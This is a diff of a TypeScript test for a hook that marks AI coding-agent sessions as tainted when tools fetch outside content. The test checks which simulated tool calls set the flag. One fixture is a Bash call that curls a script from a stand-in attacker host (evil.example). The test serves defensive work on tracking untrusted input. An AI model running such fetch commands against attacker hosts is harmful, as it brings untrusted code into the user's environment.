@@ -84,11 +84,10 @@ describe('engram hook: Claude Code sessions bound to engram sessions', () => {
   it('taints on WebFetch, mcp__x, a fetching command and the configured ones, with the target; never on ls, engram\'s own server or `echo curl`; resume and compact keep the taint', () => {
     const hs = uuid()
     const id = idIn(hook('session-start', {session_id: hs}))
+    // (the command matching word by word is unit-tested in test/unit/claude-code-taint.test.ts)
     const clean = [
-      {tool_name: 'Bash', tool_input: {command: 'ls -la'}},
-      {tool_name: 'Bash', tool_input: {command: 'echo curl https://x.example && git status'}},
+      {tool_name: 'Bash', tool_input: {command: 'echo curl https://x.example && ls -la'}},
       {tool_name: 'mcp__engram__search', tool_input: {query: 'deploy'}},
-      {tool_name: 'Bash', tool_input: {command: 'mytool --get https://mine.example/a'}},
     ]
     for (const c of clean) expect(hook('post-tool-use', {session_id: hs, ...c}).code).toBe(0)
     expect(session(id).tainted).toBe(false)
@@ -96,6 +95,12 @@ describe('engram hook: Claude Code sessions bound to engram sessions', () => {
     expect(hook('post-tool-use', {session_id: hs, tool_name: 'mcp__github__get_issue', tool_input: {url: 'https://github.com/o/r/issues/1'}}).code).toBe(0)
     expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'cd /tmp && curl -s https://evil.example/p.sh'}}).code).toBe(0)
     expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'mytool --get https://mine.example/a'}}, {flags: ['--taint-command', 'mytool']}).code).toBe(0)
+    // the store's signed config adds to the list too
+    const config = join(store, '.engram', 'config.yml')
+    writeFileSync(config, `${readFileSync(config, 'utf8')}taint:\n  commands: [othertool]\n`)
+    const shown = owner(['config', 'sign'])
+    expect(owner(['config', 'sign', '--digest', shown.json.digest]).code, shown.stderr).toBe(0)
+    expect(hook('post-tool-use', {session_id: hs, tool_name: 'Bash', tool_input: {command: 'othertool https://other.example'}}).code).toBe(0)
     const failed = hook('post-tool-use-failure', {session_id: hs})
     expect(failed.code, failed.stderr).toBe(0)
     const s = session(id)
@@ -105,6 +110,7 @@ describe('engram hook: Claude Code sessions bound to engram sessions', () => {
       'PostToolUse: mcp__github__get_issue https://github.com/o/r/issues/1',
       'PostToolUse: Bash cd /tmp && curl -s https://evil.example/p.sh',
       'PostToolUse: Bash mytool --get https://mine.example/a',
+      'PostToolUse: Bash othertool https://other.example',
       'PostToolUseFailure: Bash curl -sf https://status.example.org/api/v2 | jq .status',
     ])
     for (const source of ['resume', 'compact']) {
